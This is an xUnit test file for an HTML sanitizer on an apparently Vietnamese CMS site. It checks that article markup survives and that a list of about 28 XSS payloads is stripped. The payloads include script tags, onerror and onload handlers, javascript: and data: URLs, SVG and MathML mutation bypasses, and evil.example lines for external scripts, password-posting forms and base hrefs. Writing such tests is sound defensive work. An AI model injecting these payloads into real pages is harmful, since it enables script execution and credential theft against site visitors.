using System.Text;
using AngleSharp.Html.Parser;
using OrchardSite.Content.Fields;

namespace OrchardSite.Tests.Content;

public sealed class HtmlCleanerTests
{
    private static readonly HtmlCleaner Cleaner = new();

    [Theory]
    [InlineData("<p>Chào <strong>bạn</strong></p>")]
    [InlineData("<h2>Mục I</h2><ul><li>Một</li><li>Hai</li></ul>")]
    [InlineData("<table><thead><tr><th scope=\"col\" colspan=\"2\">Năm</th></tr></thead><tbody><tr><td>2025</td><td>2026</td></tr></tbody></table>")]
    [InlineData("<figure><img src=\"/media/hinh-anh/cho.jpg\" alt=\"Chợ\" width=\"640\" height=\"360\"><figcaption>Chợ nổi</figcaption></figure>")]
    [InlineData("<p style=\"text-align: center\">Giữa trang</p>")]
    [InlineData("<p><a href=\"https://congthuong.example/tin?a=1\">Tin</a> <a href=\"mailto:lienhe@congthuong.example\">Thư</a> <a href=\"tel:02203000111\">Gọi</a></p>")]
    public void What_an_article_may_contain_stays(string html) => Cleaner.Clean(html).ShouldBe(html);

    [Theory]
    [InlineData("<p>a</p><script>alert(1)</script>")]
    [InlineData("<script src=//evil.example/x.js></script>")]
    [InlineData("<img src=x onerror=alert(1) alt=x>")]
    [InlineData("<p onclick=\"alert(1)\" onmouseover='alert(1)'>a</p>")]
    [InlineData("<body onload=alert(1)>")]
    [InlineData("<a href=\"javascript:alert(1)\">a</a>")]
    [InlineData("<a href=\" jaVa\tscRipt:alert(1)\">a</a>")]
    [InlineData("<a href=\"&#106;avascript:alert(1)\">a</a>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">a</a>")]
    [InlineData("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\" alt=a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">a</a>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<svg><animate onbegin=alert(1) attributeName=x></svg>")]
    [InlineData("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<form action=//evil.example><input name=password><button>Gửi</button></form>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<object data=x></object><embed src=x>")]
    [InlineData("<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>")]
    [InlineData("<base href=//evil.example/>")]
    [InlineData("<style>body{background:url(//evil.example)}</style>")]
    [InlineData("<p style=\"position:fixed;background:url(javascript:alert(1))\">a</p>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<textarea><script>alert(1)</script></textarea>")]
    [InlineData("<!-- <script>alert(1)</script> --><p>a</p>")]
    [InlineData("<xmp><p title=\"</xmp><script>alert(1)</script>\">")]
    public void What_could_act_is_taken_out(string html)
    {
        using var document = new HtmlParser().ParseDocument(Cleaner.Clean(html));

        var elements = document.Body!.QuerySelectorAll("*");
        elements.Select(element => element.LocalName).ShouldBeSubsetOf(["p", "a", "img", "span", "div", "table", "tbody"]);
        var attributes = elements.SelectMany(element => element.Attributes).ToArray();
        attributes.ShouldNotContain(attribute => attribute.Name.StartsWith("on"));
        attributes.Where(attribute => attribute.Name == "style").ShouldAllBe(attribute => attribute.Value.StartsWith("text-align"));
        attributes.Where(attribute => attribute.Name is "href" or "src").ShouldAllBe(attribute =>
            !attribute.Value.Contains(':') || attribute.Value.StartsWith("https:") || attribute.Value.StartsWith("http:"));
    }

    [Fact]
    public void The_words_of_an_unknown_element_stay_and_those_of_a_script_go()
    {
        Cleaner.Clean("<o:p><font color=red>Thông báo</font></o:p><script>var mat = 'khẩu';</script>").ShouldBe("Thông báo");
    }

    [Fact]
    public void Text_is_composed_even_where_marks_are_written_out()
    {
        var clean = Cleaner.Clean("<p title=\"Co&#x302;ng\">Co&#770;ng Thu&#795;o&#795;ng</p>");

        clean.ShouldContain(">Công Thương</p>");
        clean.IsNormalized(NormalizationForm.FormC).ShouldBeTrue();
    }

    [Fact]
    public void A_mark_behind_a_bracket_cannot_open_it()
    {
        var clean = Cleaner.Clean("<p>a</p><a href=\"https://a.example\">&#x338; onclick=alert(1) x</a>");

        using var document = new HtmlParser().ParseDocument(clean);
        document.QuerySelector("a")!.Attributes.Select(attribute => attribute.Name).ShouldBe(["href"]);
        document.QuerySelector("a")!.TextContent.ShouldEndWith("onclick=alert(1) x");
    }

    [Fact]
    public void Cleaning_twice_changes_nothing()
    {
        const string Html = "<div><p>Kế hoạch &amp; <em>giải pháp</em> &lt;2026&gt;</p><img src=\"/media/a.jpg\" alt=\"A &quot;B&quot;\"><table><tr><td>1</td></tr></table></div>";

        var once = Cleaner.Clean(Html);

        Cleaner.Clean(once).ShouldBe(once);
    }
}
